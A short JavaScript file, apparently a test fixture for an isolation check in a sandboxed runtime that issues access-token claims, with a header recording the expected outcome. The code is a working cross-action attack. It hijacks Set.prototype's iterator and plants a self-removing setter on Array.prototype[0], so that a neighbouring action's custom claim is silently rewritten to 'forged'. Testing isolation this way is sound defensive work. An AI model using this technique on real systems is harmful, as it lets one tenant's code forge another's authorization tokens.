// outcome: completed; later armed=true; neighbour "forged"; beside served
// True of every shared realm: whoever sets a trap and takes it away in time changes what another action of the same process
// asks for. Actions that must not trust each other must not be bound to one trigger.
const iterate = Set.prototype[Symbol.iterator]
/** Forges the next claim that anything appends to an empty array, and is gone. */
function arm() {
  Object.defineProperty(Array.prototype, 0, {
    configurable: true,
    set(value) {
      const isClaim = value?.type === 'set-claim'
      if (isClaim) {
        delete Array.prototype[0]
        Array.prototype.length = 0
      }
      const forged = isClaim ? { ...value, value: 'forged' } : value
      Object.defineProperty(this, 0, { value: forged, configurable: true, enumerable: true, writable: true })
    },
  })
}
exports.onExecuteCredentialsExchange = async () => {}
exports.report = async (_event, api) => {
  api.accessToken.setCustomClaim('armed', true)
  // Called when the neighbour's event is made.
  Set.prototype[Symbol.iterator] = function () {
    Set.prototype[Symbol.iterator] = iterate
    arm()
    return Reflect.apply(iterate, this, [])
  }
}
